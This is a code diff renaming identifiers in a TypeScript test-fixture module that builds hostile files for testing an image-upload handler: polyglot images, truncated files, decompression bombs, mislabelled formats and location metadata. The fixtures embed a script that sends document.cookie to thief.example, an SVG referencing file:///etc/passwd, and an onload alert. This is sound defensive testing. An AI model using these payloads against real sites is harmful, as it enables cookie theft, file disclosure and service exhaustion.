@@ -2,25 +2,25 @@ import { Buffer } from 'node:buffer';
 import { crc32, deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 
-/** A file that must never be served as anything but a picture. `mayPass`: its visible picture may be accepted, re-encoded. */
+/** A file that must never be served as anything but a picture. `mayBeAccepted`: its picture may be stored after re-encoding. */
 export interface HostileFile {
   name: string;
   bytes: Buffer;
   /** The media type it is sent as. */
   type: string;
-  mayPass?: true;
+  mayBeAccepted?: true;
 }
 
 const script = '<script>fetch("//thief.example/"+document.cookie)</script>';
 const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}<rect width="9" height="9"/></svg>`;
 
 const chunk = (type: string, data: Buffer): Buffer => {
-  const named = Buffer.concat([Buffer.from(type, 'latin1'), data]);
+  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
   const length = Buffer.alloc(4);
   length.writeUInt32BE(data.length);
-  const check = Buffer.alloc(4);
-  check.writeUInt32BE(crc32(named));
-  return Buffer.concat([length, named, check]);
+  const checksum = Buffer.alloc(4);
+  checksum.writeUInt32BE(crc32(typeAndData));
+  return Buffer.concat([length, typeAndData, checksum]);
 };
 
 const pngSignature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
@@ -49,13 +49,13 @@ const flatPng = (
 const withChunk = (png: Buffer, type: string, data: Buffer): Buffer =>
   Buffer.concat([png.subarray(0, 33), chunk(type, data), png.subarray(33)]);
 
-const shapes = sharp({ create: { width: 60, height: 40, channels: 3, background: '#2a7' } });
+const samplePicture = sharp({ create: { width: 60, height: 40, channels: 3, background: '#2a7' } });
 
-/** EXIF with a place, as a phone writes it. */
+/** Marks the metadata, which must not survive an upload. */
 export const canary = 'CANARY-GPS-28.6139N';
 
-const withPlace = (format: 'jpeg' | 'png' | 'webp'): Promise<Buffer> =>
-  shapes
+const withLocation = (format: 'jpeg' | 'png' | 'webp'): Promise<Buffer> =>
+  samplePicture
     .clone()
     .toFormat(format)
     .withExif({
@@ -65,7 +65,7 @@ const withPlace = (format: 'jpeg' | 'png' | 'webp'): Promise<Buffer> =>
     .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><note>${canary}</note></x:xmpmeta>`)
     .toBuffer();
 
-/** JPEG whose comment holds a page, PNG whose text does, and the same before and after the picture. */
+/** Files of two formats at once: a payload before, after or inside a picture. */
 const polyglots = (pictures: Record<'jpeg' | 'png' | 'webp', Buffer>): HostileFile[] => {
   const payloads: Record<string, Buffer> = {
     html: Buffer.from(`<!doctype html>${script}`),
@@ -98,32 +98,37 @@ const polyglots = (pictures: Record<'jpeg' | 'png' | 'webp', Buffer>): HostileFi
         name: `${name} after a jpeg`,
         bytes: Buffer.concat([pictures.jpeg, payload]),
         type: 'image/jpeg',
-        mayPass: true,
+        mayBeAccepted: true,
       },
-      { name: `${name} after a png`, bytes: Buffer.concat([pictures.png, payload]), type: 'image/png', mayPass: true },
+      {
+        name: `${name} after a png`,
+        bytes: Buffer.concat([pictures.png, payload]),
+        type: 'image/png',
+        mayBeAccepted: true,
+      },
       {
         name: `${name} after a webp`,
         bytes: Buffer.concat([pictures.webp, payload]),
         type: 'image/webp',
-        mayPass: true,
+        mayBeAccepted: true,
       },
       {
         name: `${name} in a comment of a jpeg`,
         bytes: Buffer.concat([pictures.jpeg.subarray(0, 2), comment, pictures.jpeg.subarray(2)]),
         type: 'image/jpeg',
-        mayPass: true,
+        mayBeAccepted: true,
       },
       {
         name: `${name} in the text of a png`,
         bytes: withChunk(pictures.png, 'tEXt', Buffer.concat([Buffer.from('Comment\0'), payload])),
         type: 'image/png',
-        mayPass: true,
+        mayBeAccepted: true,
       },
     ] satisfies HostileFile[];
   });
 };
 
-const truncated = (pictures: Record<string, Buffer>): HostileFile[] =>
+const truncatedFiles = (pictures: Record<string, Buffer>): HostileFile[] =>
   Object.entries(pictures).flatMap(([format, bytes]) =>
     [1, 4, 12, 30, 0.3, 0.6, 0.9].map((part) => ({
       name: `${format} cut after ${part}`,
@@ -153,7 +158,7 @@ const bombs = (): HostileFile[] => [
     bytes: flatPng(6_000, 4_000, { rows: deflateSync(Buffer.alloc(6_001)) }),
     type: 'image/png',
   },
-  { name: '24 MP', bytes: flatPng(6_000, 4_000), type: 'image/png', mayPass: true },
+  { name: '24 MP', bytes: flatPng(6_000, 4_000), type: 'image/png', mayBeAccepted: true },
   {
     name: 'text that unpacks to 60 MB',
     bytes: withChunk(
@@ -162,7 +167,7 @@ const bombs = (): HostileFile[] => [
       Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(60_000_000), { level: 9 })]),
     ),
     type: 'image/png',
-    mayPass: true,
+    mayBeAccepted: true,
   },
   {
     name: 'a colour profile that unpacks to 60 MB',
@@ -172,7 +177,7 @@ const bombs = (): HostileFile[] => [
       Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(60_000_000), { level: 9 })]),
     ),
     type: 'image/png',
-    mayPass: true,
+    mayBeAccepted: true,
   },
   { name: 'a gzip of 60 MB', bytes: deflateSync(Buffer.alloc(60_000_000), { level: 9 }), type: 'image/png' },
 ];
@@ -181,9 +186,9 @@ const otherFormats = async (): Promise<HostileFile[]> => {
   const heading = (brand: string) =>
     Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from(`ftyp${brand}\0\0\0\0${brand}mif1`), Buffer.alloc(64)]);
   return [
-    { name: 'gif', bytes: await shapes.clone().gif().toBuffer(), type: 'image/png' },
-    { name: 'tiff', bytes: await shapes.clone().tiff().toBuffer(), type: 'image/jpeg' },
-    { name: 'avif', bytes: await shapes.clone().avif({ effort: 0 }).toBuffer(), type: 'image/webp' },
+    { name: 'gif', bytes: await samplePicture.clone().gif().toBuffer(), type: 'image/png' },
+    { name: 'tiff', bytes: await samplePicture.clone().tiff().toBuffer(), type: 'image/jpeg' },
+    { name: 'avif', bytes: await samplePicture.clone().avif({ effort: 0 }).toBuffer(), type: 'image/webp' },
     { name: 'heic', bytes: heading('heic'), type: 'image/jpeg' },
     { name: 'heix', bytes: heading('heix'), type: 'image/png' },
     { name: 'mp4', bytes: heading('isom'), type: 'image/webp' },
@@ -199,12 +204,12 @@ const otherFormats = async (): Promise<HostileFile[]> => {
       bytes: Buffer.from('<svg xmlns:x="http://www.w3.org/1999/xlink"><image x:href="file:///etc/passwd"/></svg>'),
       type: 'image/png',
     },
-    { name: 'svg as what it is', bytes: Buffer.from(svg), type: 'image/svg+xml' },
-    { name: 'html as what it is', bytes: Buffer.from(script), type: 'text/html' },
-    { name: 'gif as what it is', bytes: await shapes.clone().gif().toBuffer(), type: 'image/gif' },
+    { name: 'svg with its own media type', bytes: Buffer.from(svg), type: 'image/svg+xml' },
+    { name: 'html with its own media type', bytes: Buffer.from(script), type: 'text/html' },
+    { name: 'gif with its own media type', bytes: await samplePicture.clone().gif().toBuffer(), type: 'image/gif' },
     { name: 'json', bytes: Buffer.from('{}'), type: 'application/json' },
     { name: 'anything', bytes: Buffer.from('anything'), type: 'application/octet-stream' },
-    { name: 'a picture as text', bytes: await shapes.clone().png().toBuffer(), type: 'text/plain' },
+    { name: 'a picture as text', bytes: await samplePicture.clone().png().toBuffer(), type: 'text/plain' },
     {
       name: 'a form',
       bytes: Buffer.from(
@@ -224,17 +229,17 @@ const otherFormats = async (): Promise<HostileFile[]> => {
 /** Hostile files of every kind, made as they are needed. */
 export const hostileFiles = async (): Promise<HostileFile[]> => {
   const pictures = {
-    jpeg: await shapes.clone().jpeg().toBuffer(),
-    png: await shapes.clone().png().toBuffer(),
-    webp: await shapes.clone().webp().toBuffer(),
+    jpeg: await samplePicture.clone().jpeg().toBuffer(),
+    png: await samplePicture.clone().png().toBuffer(),
+    webp: await samplePicture.clone().webp().toBuffer(),
   };
-  const placed = await Promise.all(
+  const withLocations = await Promise.all(
     (['jpeg', 'png', 'webp'] as const).map(async (format): Promise<HostileFile> => ({
       name: `${format} with a place`,
-      bytes: await withPlace(format),
+      bytes: await withLocation(format),
       type: `image/${format}`,
-      mayPass: true,
+      mayBeAccepted: true,
     })),
   );
-  return [...polyglots(pictures), ...truncated(pictures), ...bombs(), ...(await otherFormats()), ...placed];
+  return [...polyglots(pictures), ...truncatedFiles(pictures), ...bombs(), ...(await otherFormats()), ...withLocations];
 };
